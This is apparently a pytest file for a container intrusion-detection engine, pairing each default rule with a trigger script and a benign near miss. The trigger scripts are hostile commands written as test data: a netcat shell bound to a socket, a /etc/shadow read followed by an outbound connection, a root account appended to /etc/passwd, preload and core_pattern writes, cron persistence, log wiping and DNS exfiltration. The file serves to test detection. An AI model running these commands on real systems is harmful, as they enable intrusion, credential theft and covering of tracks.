"""Every default rule, triggered by a real event from a real container, and a benign near
miss that must not trigger it."""
import os
import pty
import subprocess

import pytest

from corpus_bed import engine, pipe  # noqa: F401 (the module's fixtures)
from testbed.judge import fired, script_items


def _host_file(path, text="x\n", mode=0o600):
    def setup(c):
        full = os.path.join(c.rootfs, path.lstrip("/"))
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "w") as f:
            f.write(text)
        os.chmod(full, mode)
    return setup


def _files(*paths):
    fns = [_host_file(p) for p in paths]
    return lambda c: [f(c) for f in fns]


WGET = "wget -q -T 1 -O /dev/null http://127.0.0.1:{}/ ; true"   # busybox wget: the exec
NC = "nc -w 1 {} {} < /dev/null; true"                              # a real connect()
COPY = "cp /bin/busybox /home/app/{0} && /home/app/{0} ; true"
DEEP = "d=/tmp/{0} && mkdir -p $d && touch $d/f && cat $d/f"
LISTEN = ("python3 -c 'import socket;s=socket.socket();s.setsockopt(1,2,1);s.bind((\"127.0.0.1\",{0}));s.listen();"
          "c,_=s.accept();c.sendall(b\"x\");c.close()' & sleep 0.5; ")      # Debian image
SEVENTY = " ".join(f"/tmp/f{i}" for i in range(70))                  # past 64 arguments

LOOP = "for i in $(seq 1 {n}); do {cmd}; done; true"
PORTS = LOOP.replace("{cmd}", "nc -w 1 127.0.0.1 $i < /dev/null")
HOSTS = LOOP.replace("{cmd}", "nc -w 1 127.0.0.$i 6379 < /dev/null")
LOGINS = LOOP.replace("{cmd}", "nc -w 1 127.0.0.1 22 < /dev/null")
FILES = "mkdir -p /srv/data && cd /srv/data && for i in $(seq 1 120); do echo x > f$i; done; "
RENAMES = FILES + LOOP.replace("{cmd}", "mv f$i f$i.locked")
USER = "probe as 1000 "                  # the rest of the command as uid 1000
REFUSED = LOOP.replace("{cmd}", USER + "/usr/local/bin/probe root /bin/true")


def _setuid_probe(c):
    """/usr/local/bin/rootprobe: the probe helper, setuid root (tests/helpers/probe.c), and
    /usr/local/bin/capprobe: the probe with the file capability cap_setuid (setcap
    cap_setuid+ep: a version-2 security.capability xattr, effective, CAP_SETUID = 7)."""
    import shutil
    import struct
    dst = os.path.join(c.rootfs, "usr/local/bin/rootprobe")
    shutil.copy2(os.path.join(c.rootfs, "usr/local/bin/probe"), dst)
    os.chown(dst, 0, 0)
    os.chmod(dst, 0o4755)
    cap = os.path.join(c.rootfs, "usr/local/bin/capprobe")
    shutil.copy2(os.path.join(c.rootfs, "usr/local/bin/probe"), cap)
    os.setxattr(cap, "security.capability", struct.pack("<IIIII", 0x02000001, 1 << 7, 0, 0, 0))


# rule -> (trigger script, near-miss script, setup run from the host before both)
CASES = {
    "Vulnerability scanner run in a container": (COPY.format("nuclei"), COPY.format("nucleus"), None),
    # rules over time, issue 18: the burst, and the same behaviour too slow or too small
    "Port scan from a container": (PORTS.format(n=15), PORTS.format(n=3), None),
    "Network sweep from a container": (HOSTS.format(n=26), HOSTS.format(n=5), None),
    "Burst of discovery commands in a container": (
        "/bin/id; /bin/uname -a; /bin/ps; /bin/mount; /bin/df; /bin/hostname",
        "/bin/id -u; /bin/uname -m; /bin/hostname", None),
    "Brute force against a login service": (LOGINS.format(n=22), LOGINS.format(n=5), None),
    "Mass file deletion in a container": (FILES + "rm -f /srv/data/f*",
                                          FILES + "rm -f /srv/data/f1", None),
    "Mass file rename in a container": (RENAMES.format(n=60), RENAMES.format(n=3), None),
    "Setuid-root program run by a user": (USER + "/usr/local/bin/rootprobe root /bin/true",
                                          USER + "/usr/local/bin/probe touch /tmp/x; "
                                          "/usr/local/bin/rootprobe root /bin/true",
                                          _setuid_probe),
    "Root gained through a setuid call": (USER + "/usr/local/bin/capprobe root /bin/true",
                                          USER + "/usr/local/bin/rootprobe root /bin/true; "
                                          "/usr/local/bin/probe root /bin/true", _setuid_probe),
    "Repeated failed privilege changes": (REFUSED.format(n=6), REFUSED.format(n=1), None),
    "Credential read then sent out": ("cat /etc/shadow > /dev/null; " + NC.format("10.1.2.3", 443),
                                      "cat /etc/passwd > /dev/null; " + NC.format("10.1.2.3", 443),
                                      None),
    "Downloaded program run in a container": (
        "wget -q -T 1 -O /tmp/x http://10.1.2.3/x; cp /bin/busybox /tmp/payload && /tmp/payload true",
        WGET.format(1) + "; cp /bin/busybox /tmp/payload && /tmp/payload true", None),
    "Shell spawned by a web server": (
        "cp /usr/local/bin/probe /tmp/node && /tmp/node spawn /bin/sh -c 'echo hi'",
        "cp /usr/local/bin/probe /tmp/worker && /tmp/worker spawn /bin/sh -c 'echo hi'", None),
    "Interactive shell in a container": ("TTY", "exit 0", None),
    "Shell with a network socket for stdio": (
        "(nc -l -p 7001 -e /bin/sh &) ; sleep 0.3; echo exit | nc 127.0.0.1 7001; sleep 0.2",
        "echo exit | /bin/sh", None),
    "Program run from a temporary directory": (
        "cp /bin/busybox /tmp/tool && /tmp/tool true",
        "cp /bin/busybox /home/app/tool && /home/app/tool true", None),
    "Container administration tool run in a container": (COPY.format("kubectl"), COPY.format("kubecfg"), None),
    "Base64 decoding in a container": ("echo aGk= | base64 -d", "echo hi | base64", None),
    "Cron job written in a container": (
        "echo '* * * * * id' >> /var/spool/cron/crontabs/root",
        "cat /etc/crontab 2>/dev/null; ls /var/spool/cron/crontabs", None),
    "Systemd unit written in a container": (
        "mkdir -p /etc/systemd/system && echo x > /etc/systemd/system/evil.service",
        "echo x > /tmp/evil.service", None),
    "SSH authorized keys changed": (
        "mkdir -p /root/.ssh && echo key >> /root/.ssh/authorized_keys",
        "mkdir -p /root/.ssh && echo host >> /root/.ssh/known_hosts", None),
    "Shell startup file changed": ("echo x=1 >> /root/.profile",
                                   "cat /etc/profile 2>/dev/null; echo x >> /root/notes.txt",
                                   None),
    "Local account added": ("echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd",
                            "cat /etc/passwd > /dev/null", None),
    "Write below a binary directory": ("echo x > /usr/local/bin/evil",
                                       "echo x > /home/app/evil", None),
    "Dynamic linker preload configured": ("echo /tmp/x.so > /etc/ld.so.preload",
                                          "cat /etc/ld.so.preload 2>/dev/null; true", None),
    "Setuid or setgid bit set": ("echo > /tmp/f; chmod u+s /tmp/f",
                                 "echo > /tmp/f; chmod 755 /tmp/f", None),
    "Namespace change in a container": ("unshare -m true; true", "unshare --help; true", None),
    "Mount attempted in a container": ("mount -t tmpfs none /mnt; true", "mount > /dev/null",
                                       None),
    "Kernel escape file written": (
        "echo '|/tmp/x' > /proc/sys/kernel/core_pattern; true",
        "cat /proc/sys/kernel/core_pattern > /dev/null", None),
    "Ptrace attach in a container": ("probe ptrace", "probe traceme", None),
    "Shell history deleted or truncated": ("rm /root/.ash_history", "rm /root/notes",
                                           _files("/root/.ash_history", "/root/notes")),
    "Log file deleted or truncated": (": > /var/log/app.log", "echo line >> /var/log/app.log",
                                      _files("/var/log/app.log")),
    "Timestamps forged with touch": ("/bin/touch -d '2020-01-01 00:00' /tmp/f", "/bin/touch /tmp/f",
                                     None),
    "Memory file created in a container": ("probe memfd x", "probe touch /dev/shm/x", None),
    "Hidden program run": ("cp /bin/busybox /tmp/.hidden && /tmp/.hidden true",
                           "cp /bin/busybox /tmp/visible && /tmp/visible true", None),
    "Firewall changed in a container": (COPY.format("iptables"), "ipcalc 10.0.0.1/24", None),
    "Compiler run in a container": (COPY.format("gcc"), "echo x | gzip > /dev/null", None),
    "Mamori tampered with": ("/usr/bin/killall mamori; true",
                             "/usr/bin/killall nosuchprocess; true", None),
    "Shadow file read in a container": ("cat /etc/shadow > /dev/null",
                                        "cat /etc/passwd > /dev/null", None),
    "SSH private key read": ("cat /root/.ssh/id_ed25519 > /dev/null",
                             "cat /root/.ssh/id_ed25519.pub > /dev/null",
                             _files("/root/.ssh/id_ed25519", "/root/.ssh/id_ed25519.pub")),
    "Service account token read by an unexpected program": (
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null",
        "/bin/ls /var/run/secrets/kubernetes.io/serviceaccount/ > /dev/null",
        _files("/var/run/secrets/kubernetes.io/serviceaccount/token")),
    "Process memory or environment read through /proc": ("cat /proc/1/environ > /dev/null",
                                                         "cat /proc/1/status /proc/self/environ"
                                                         " /proc/thread-self/maps > /dev/null",
                                                         None),
    "Shell history read": ("cat /root/.ash_history > /dev/null",
                           "cat /root/.profile > /dev/null",
                           _files("/root/.ash_history", "/root/.profile")),
    "Cloud metadata service contacted": (
        NC.format("169.254.169.254", 80), NC.format("127.0.0.1", 80), None),
    "Network scanner run in a container": (COPY.format("nmap"), COPY.format("nmapper"), None),
    "Kubernetes API or kubelet contacted from a container": (NC.format("127.0.0.1", 6443),
                                                             NC.format("127.0.0.1", 8080),
                                                             None),
    "System reconnaissance commands in a container": ("/bin/uname -a > /dev/null", "/bin/date > /dev/null",
                                                      None),
    "Remote shell client run in a container": (COPY.format("ssh"), COPY.format("ssh-keygen"),
                                               None),
    "Sensitive directories archived": ("tar cf /tmp/a.tar /etc/hostname",
                                       "mkdir -p /tmp/data && tar cf /tmp/b.tar /tmp/data", None),
    "Download tool run in a container": ("wget -q -O /tmp/page http://127.0.0.1:1/ ; true",
                                         WGET.format(1), None),    # a health check
    "Package manager run in a container": (
        "cp /bin/busybox /home/app/apk && /home/app/apk add curl ; true",
        "cp /bin/busybox /home/app/apk && /home/app/apk info ; true", None),
    "Netcat or socat run in a container": ("nc 127.0.0.1 1 < /dev/null; true",
                                           COPY.format("ncal"), None),
    "Connection to a proxy or Tor port": (NC.format("127.0.0.1", 9050),
                                          NC.format("127.0.0.1", 8080), None),
    "File upload with a command-line HTTP client": (
        "wget -q -T 1 --post-file=/etc/hostname http://127.0.0.1:1/ ; true", WGET.format(1),
        None),
    "Connection to a mining pool port": (NC.format("127.0.0.1", 3333),
                                         NC.format("127.0.0.1", 8080), None),
    "Cryptocurrency miner run": (COPY.format("xmrig"), COPY.format("xmrig-notes"), None),
    "Secure deletion tool run": ("echo x > /tmp/f; shred /tmp/f",
                                 "echo x > /tmp/f; rm /tmp/f", None),
    # drift (rules/drift.yaml)
    "Drift - new program run in a container": (
        "cp /bin/busybox /tmp/x && chmod +x /tmp/x && /tmp/x true", "/bin/true", None),
    "Drift - modified image program run": (
        "cp /bin/busybox /usr/local/bin/probe && /usr/local/bin/probe true; true",
        "chmod 755 /usr/local/bin/probe && /usr/local/bin/probe traceme", None),
    "Drift - script not from the image run": (
        "echo 'echo hi' > /tmp/s.sh && sh /tmp/s.sh", "sh -c 'echo hi'", None),
    "Drift - fileless program run": ("probe memfd-exec true", "probe memfd x", None),
    "Drift - code not from the image mapped executable": (
        "cp /bin/busybox /tmp/lib.so && probe map-exec /tmp/lib.so",
        "probe map-exec /bin/busybox", None),
    "Drift - fileless code mapped executable": ("probe memfd-map", "probe memfd x", None),
    "Drift - program or script of unknown origin run": (
        "echo true > /dev/shm/x.sh && sh /dev/shm/x.sh", "sh -c true", None),
    "Drift - program run from tmpfs or shared memory": (
        "cp /bin/busybox /dev/shm/x && /dev/shm/x true", "cp /bin/busybox /dev/shm/y", None),
    "Drift - deleted program run": (
        "cp /bin/busybox /tmp/d && exec 3< /tmp/d && rm /tmp/d && /proc/self/fd/3 true",
        "cp /bin/busybox /tmp/d2 && /tmp/d2 true", None),
    "Drift - program run from a volume": ("/data/tool true", "/bin/true", "VOLUME"),
    "Arguments too long to check in a container": (
        "tar cf /tmp/o.tar " + SEVENTY + " /etc/hostname 2>/dev/null; true",
        "ls " + SEVENTY + " 2>/dev/null; true", None),            # ls: not a listed program
    "io_uring set up in a container": (
        "/usr/local/bin/probe uring 4", "/usr/local/bin/probe uring 0; true", None),  # 0: EINVAL
    # padding is resolved away (file.path is the kernel's); only a file deeper than the
    # resolved path keeps (511 bytes) is cut. The near miss: 4 levels of 100, a requested
    # path past 255 bytes (cut) whose resolved path fits.
    # rules over behaviour, issue 22 (DEBIAN: on the Debian image, for bash, python, sudo)
    "Shell started by a program that is not a shell": (
        "cp /usr/local/bin/probe /tmp/awk && /tmp/awk spawn /bin/sh -c 'echo hi'",
        "cp /usr/local/bin/probe /tmp/worker && /tmp/worker spawn /bin/sh -c 'echo hi'", None),
    "Script piped into a shell": ("echo 'echo hi' | sh", "echo x | sh -c 'read l'", None),
    "Network connection made by a shell": ("bash -c 'echo > /dev/tcp/127.0.0.1/9'; true",
                                           "bash -c 'echo > /dev/null'", "DEBIAN"),
    "Connection to a non-standard port by a network tool": (
        NC.format("127.0.0.1", 4445), NC.format("127.0.0.1", 8080), None),
    "Download through a raw network socket": (
        LISTEN.format(7010) + "bash -c 'cat < /dev/tcp/127.0.0.1/7010 > /tmp/x'; true",
        LISTEN.format(7010) + "bash -c 'cat < /dev/tcp/127.0.0.1/7010 > /dev/null'; true",
        "DEBIAN"),
    "Data sent over DNS or ICMP": (
        "nslookup c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2Vj.x.example 127.0.0.1; true",
        "nslookup api.example.com 127.0.0.1; true", None),
    "File sent over a raw network connection": (
        "(nc -l -p 7011 > /dev/null &) ; sleep 0.3; nc -w 1 127.0.0.1 7011 < /etc/hostname",
        "(nc -l -p 7011 > /dev/null &) ; sleep 0.3; nc -w 1 127.0.0.1 7011 < /dev/null",
        None),
    "File copied out with a transfer client": (
        "curl -s -m 1 -T /etc/hostname ftp://127.0.0.1:1/; true",
        "curl -s -m 1 -T /etc/hostname http://127.0.0.1:1/; true", "DEBIAN"),
    "Network configuration discovery in a container": (
        "cat /etc/resolv.conf > /dev/null 2>&1; true", "cat /etc/hostname > /dev/null", None),
    "Network connections discovery in a container": (
        "cat /proc/net/tcp > /dev/null", "cat /proc/uptime > /dev/null", None),
    "User discovery in a container": ("/usr/bin/whoami > /dev/null",
                                      "/usr/bin/id -u > /dev/null", None),
    "Local accounts listed in a container": ("cat /etc/passwd > /dev/null",
                                             "cat /etc/hostname > /dev/null", None),
    "Security software discovery in a container": (
        "/bin/grep -i falco /etc/hostname; true", "/bin/grep -i root /etc/hostname; true",
        None),
    "Container runtime or orchestration discovery": (
        "cat /proc/1/cgroup > /dev/null", "cat /proc/1/comm > /dev/null", None),
    "Search for setuid files or capabilities": (
        "/usr/bin/find / -xdev -perm -4000 > /dev/null 2>&1; true",
        "/usr/bin/find /etc -name hostname > /dev/null; true", None),
    "Search for credentials in files": (
        "/bin/grep -ri password /etc > /dev/null; true",
        "/bin/grep -ri hostname /etc > /dev/null; true", None),
    "Kernel module load attempted from a container": (
        "echo x > /tmp/x.ko; /sbin/insmod /tmp/x.ko; true", "/sbin/modprobe -n x; true", None),
    "Sudoers changed in a container": (
        "mkdir -p /etc/sudoers.d && echo 'app ALL=(ALL) ALL' > /etc/sudoers.d/app",
        "cat /etc/sudoers > /dev/null 2>&1; true", None),
    "Sudo rights probed in a container": ("sudo -n -l > /dev/null; true",
                                          "sudo -u app true", "DEBIAN"),
    "Hidden file or directory created": ("echo x > /tmp/.x", "echo x > /tmp/x", None),
    "Program named like a system daemon or kernel thread": (
        "cp /bin/busybox /tmp/sshd && /tmp/sshd true; true",
        "cp /bin/busybox /tmp/sshx && /tmp/sshx true; true", None),
    "Service stopped in a container": (      # procps: busybox runs pkill without an exec
        "cp /bin/sleep /tmp/worker; /tmp/worker 30 > /dev/null 2>&1 & sleep 0.2; "
        "pkill -x worker; true",
        "cp /bin/sleep /tmp/worker; /tmp/worker 30 > /dev/null 2>&1 & sleep 0.2; "
        "kill $(pgrep -x worker)", "DEBIAN"),
    "Container main process or every process signalled to stop": (
        "kill -STOP 1; kill -CONT 1", "sleep 30 > /dev/null 2>&1 & kill -TERM $!", None),
    "Credential file read by a reader": (
        "cat /root/.aws/credentials > /dev/null", "cat /root/.aws/README > /dev/null",
        _files("/root/.aws/credentials", "/root/.aws/README")),
    "Path too long to check in a container": (
        DEEP.format("/".join(["x" * 100] * 6)), DEEP.format("/".join(["x" * 100] * 4)), None),
}


def test_every_default_rule_has_a_case(engine):
    assert sorted(CASES) == sorted(r.name for r in engine.ruleset.rules)
    assert len(CASES) >= 40
    assert len({r.tactic for r in engine.ruleset.rules}) >= 11


def _run(c, script):
    if script == "TTY":
        # runc exec -t gives the shell a real pseudo-terminal, as kubectl exec -it does
        master, slave = pty.openpty()
        try:
            subprocess.run(["runc", "exec", "-t", c.id, "/bin/sh", "-c", "exit 0"],
                           stdin=slave, stdout=slave, stderr=slave, timeout=30, check=True)
        finally:
            os.close(master)
            os.close(slave)
    else:
        c.sh(script, check=False)


def _matches(pipe, engine, c, script, items):
    """Run script in c (then a sentinel: testbed/judge.py); the rules its events matched."""
    if script == "TTY":
        _run(c, script)
        script = "true"
    got = script_items(pipe, c, script)
    items += got
    return {r.name for r, _ in fired(engine, got)}


@pytest.mark.parametrize("rule", sorted(CASES))
def test_rule_fires_on_the_behaviour_and_not_on_its_near_miss(rule, pipe, engine, containers,
                                                              debian_containers, tmp_path):
    trigger, miss, setup = CASES[rule]
    if setup == "VOLUME":
        vol = tmp_path / "volume"
        vol.mkdir()
        import shutil
        shutil.copy2("/bin/busybox", vol / "tool")
        c = containers(network=True, volumes=[(str(vol), "/data")])
    elif setup == "DEBIAN":
        c = debian_containers(network=True)
    else:
        c = containers(network=True)
        if setup:
            setup(c)
    near = _matches(pipe, engine, c, miss, [])
    assert rule not in near, f"near miss {miss!r} triggered {rule!r}"
    hit_items = []
    hit = _matches(pipe, engine, c, trigger, hit_items)
    assert rule in hit, f"{trigger!r} did not trigger {rule!r} (fired: {sorted(hit)})"
    r = engine.ruleset.rule(rule)
    [item] = [i for i in hit_items if r.match(i)][:1]
    out = r.render(item)
    assert "%" not in out and c.id not in ("",)
    assert item.container.id == c.id
